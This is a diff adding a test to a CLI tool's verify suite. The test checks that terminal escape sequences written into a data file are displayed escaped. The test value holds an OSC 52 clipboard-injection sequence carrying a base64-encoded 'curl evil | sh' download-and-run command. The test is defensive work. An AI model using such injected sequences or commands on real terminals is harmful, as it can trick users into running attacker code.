@@ -88,4 +88,13 @@ describe('pcigate verify: what the chain alone does not prove', () => {
     const h = await runCli(['verify', '--home', copy]);
     expect(h.stdout).toContain(`unsealed:     1 record(s), seq ${p.seq + 1} … ${p.seq + 1}, after the newest valid checkpoint: chained but not signed`);
   });
+
+  it('escape sequences written into the data home (HOME/origin) are shown escaped, never sent to the terminal', async () => {
+    const home = await copyOf(base);
+    await fsp.writeFile(path.join(home, 'origin'), 'cli.example/pcigate\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\u009b2J\n');
+    const r = await runCli(['verify', '--home', home]);
+    expect(r.code).toBe(3);
+    expect(r.stdout).not.toMatch(/[\x07\x1b\u009b]/);
+    expect(r.stdout).toContain('origin:       cli.example/pcigate\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x9b2J');
+  });
 });
